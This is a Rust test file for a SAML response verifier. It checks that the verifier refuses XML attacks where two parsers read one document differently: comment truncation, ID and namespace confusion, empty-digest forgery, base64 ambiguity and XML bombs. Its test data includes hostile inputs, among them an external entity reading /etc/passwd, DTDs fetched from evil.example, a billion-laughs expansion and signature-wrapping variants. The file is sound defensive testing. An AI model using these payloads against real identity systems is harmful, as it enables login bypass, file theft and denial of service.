//! Attacks by documents that two readers understand differently: comments, entities, namespaces, IDs, encodings, canonicalization.

use super::*;

/// 2018: a comment splits a text, and a reader takes only the first part. The signature stays valid, because canonicalization removes
/// comments.
#[test]
fn comments_truncate_nothing() {
    let longer = assertion().replace("ada@acme.example<", "ada@acme.example.evil.example<");
    let own = with_assertion(&longer);
    assert_accepted(&check(&own));
    for inserted in ["<!---->", "<!-- x -->", "<?x y?>", "<![CDATA[]]>"] {
        let xml = own.replace("ada@acme.example.evil", &format!("ada@acme.example{inserted}.evil"));
        assert_refused(&check(&xml), "markup", "the document has");
    }
    // 2025: comments in DigestValue and SignatureValue.
    for tag in ["<ds:DigestValue>", "<ds:SignatureValue>"] {
        assert_refused(&check(&own.replacen(tag, &format!("{tag}<!--x-->"), 1)), "markup", "comment");
    }
}

#[test]
fn no_entity_is_ever_expanded() {
    let good = signed(&keys().rsa);
    let laughs: String =
        (1..20).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
    for declared in [
        "<!DOCTYPE x [<!ENTITY ada \"ada\">]>".to_owned(),
        "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\">".to_owned(),
        "<!DOCTYPE x [<!ENTITY ada SYSTEM \"file:///etc/passwd\">]>".to_owned(),
        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/\"> %p;]>".to_owned(),
        "<!DOCTYPE x [<!ATTLIST x ID ID #IMPLIED>]>".to_owned(),
        format!("<!DOCTYPE x [<!ENTITY l0 \"ha\">{laughs}]>"),
        "<!DOCTYPE x>".to_owned(),
        "<?xml version=\"1.0\"?>\n<!DOCTYPE x []>".to_owned(),
    ] {
        assert_refused(&check(&format!("{declared}{good}")), "markup", "document type");
    }
    assert_refused(&check(&good.replace("id1", "&id;")), "markup", "reference");
    assert_refused(&check(&good.replace("ada@", "&#x1;ada@")), "markup", "reference");
}

/// 2025: attributes found by their local name, and namespaces that look alike.
#[test]
fn an_id_is_the_attribute_id_and_nothing_else() {
    let own = sign(&assertion(), &keys().rsa, &Style::default());
    for (from, to) in [
        (" ID=\"id2\"", " saml2:ID=\"id2\" ID=\"evil\""),
        (" ID=\"id2\"", " ID=\"id2\" saml2:ID=\"evil\""),
        (" ID=\"id2\"", " ID=\"id2\" xml:id=\"id1\""),
        (" ID=\"id2\"", " ID=\"id2\" Id=\"id1\""),
        (" ID=\"id2\"", " ID=\"id2\" iD=\"id1\""),
    ] {
        assert_refused(&check(&response(&own.replacen(from, to, 1))), "ids", "not ID");
    }
    assert_refused(
        &check(&response(&own.replace("<saml2:Subject>", "<saml2:Subject ID=\"id2\">"))),
        "ids",
        "is repeated",
    );
    // A character reference is equal to the character: every parser replaces it.
    assert_accepted(&check(&response(&own.replace("URI=\"#id2\"", "URI=\"#id&#x32;\""))));
}

#[test]
fn namespaces_that_look_alike_are_others() {
    let own = sign(&assertion(), &keys().rsa, &Style::default());
    for (namespace, name) in [
        ("urn:oasis:names:tc:SAML:2.0:assertion", "one_assertion"),
        ("http://www.w3.org/2000/09/xmldsig#", "order"),
    ] {
        for other in [
            namespace.to_uppercase(),
            format!("{namespace} "),
            format!("{namespace}/"),
            namespace.replace('s', "&#x455;"),
        ] {
            let xml = response(&own.replace(&format!("=\"{namespace}\""), &format!("=\"{other}\"")));
            let report = check(&xml);
            assert_nobody(&report);
            assert!(
                matches!(report.failure(), Some((found, _)) if found == name || found == "transforms"),
                "{:?}",
                report.failure()
            );
        }
    }
    // A Signature without a namespace is no signature, and is refused as an unexpected element.
    let plain = own.replace("<ds:Signature ", "<Signature ").replace("</ds:Signature>", "</Signature>");
    assert_refused(&check(&response(&plain)), "order", "Signature");
    // A prefix is bound again inside the signed part.
    let rebound = own.replacen("<saml2:NameID ", "<saml2:NameID xmlns:saml2=\"urn:x\" ", 1);
    assert_nobody(&check(&response(&rebound)));
    // The value of a listed prefix is signed.
    let shifted = response(&own).replacen(XS, " xmlns:xs=\"urn:evil\"", 1);
    assert_refused(&check(&shifted), "digest", "changed");
}

/// 2025: a verifier treated failed canonicalization as an empty text, whose digest is well known.
#[test]
fn void_canonicalization_is_no_signature() {
    const EMPTY: &str = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=";
    let own = sign(&assertion(), &keys().rsa, &Style::default());
    let digest = part(&own, "ds:DigestValue");
    let void = own.replace(&digest, &format!("<ds:DigestValue>{EMPTY}</ds:DigestValue>"));
    assert_refused(&check(&response(&void)), "signature", "does not match");
    // The same with a valid signature, which only the holder of the key could make.
    let style = Style::signing(&digest, &format!("<ds:DigestValue>{EMPTY}</ds:DigestValue>"));
    for namespace in ["", " xmlns:v=\"relative\"", " xmlns:v=\"1:\"", " xmlns:v=\"urn:x y\""] {
        let xml =
            response(&sign(&assertion(), &keys().rsa, &style)).replacen(XS, &format!("{XS}{namespace}"), 1);
        assert_refused(&check(&xml), "digest", "changed");
    }
    let undeclared = response(&void).replacen(XS, &format!("{XS} xmlns:v=\"\""), 1);
    assert_refused(&check(&undeclared), "markup", "prefix away");
}

#[test]
fn two_readings_of_base64_or_of_bytes_are_one_refusal() {
    use vestibule_saml::response::verify;
    let certificates = [keys().rsa.certificate.clone()];
    let good = encode(&signed(&keys().rsa));
    let (one, two) = good.split_at(4 * 40);
    for value in [
        format!("{one}-{two}"),
        format!("{one}==\n{two}"),
        format!("{one}%0A{two}"),
        format!("{one}\u{a0}{two}"),
        format!("{one}\0{two}"),
        format!("data:text/xml;base64,{good}"),
        format!("{good}{good}"),
    ] {
        let report = verify(&value, &expected(&certificates));
        assert_nobody(&report);
    }
    let xml = signed(&keys().rsa);
    for broken in [
        xml.replace("ada@", "a\u{0}da@"),
        xml.replace("ada@", "\u{feff}ada@"),
        xml.replace("ada@", "ada\u{202e}@"),
    ] {
        assert_nobody(&check(&broken));
    }
}

#[test]
fn bombs_are_refused_before_they_cost_anything() {
    let good = signed(&keys().rsa);
    let inside = |text: &str| good.replace(">Admins<", &format!(">{text}<"));
    for (xml, name) in [
        (inside(&("<x>".repeat(10_000) + &"</x>".repeat(10_000))), "markup"),
        (inside(&"<x/>".repeat(30_000)), "well_formed"),
        (
            inside(&format!("<x{}/>", (0..10_000).map(|n| format!(" a{n}=\"\"")).collect::<String>())),
            "markup",
        ),
        (inside(&format!("<x {}/>", "a".repeat(100_000))), "markup"),
        (inside(&format!("<x a=\"{}\"/>", "a".repeat(100_000))), "markup"),
        (inside(&"<x xmlns:a=\"urn:a\" xmlns:b=\"urn:b\">".repeat(200)), "markup"),
        (inside(&"a".repeat(300_000)), "form"),
    ] {
        assert_refused(&check(&xml), name, "");
    }
}
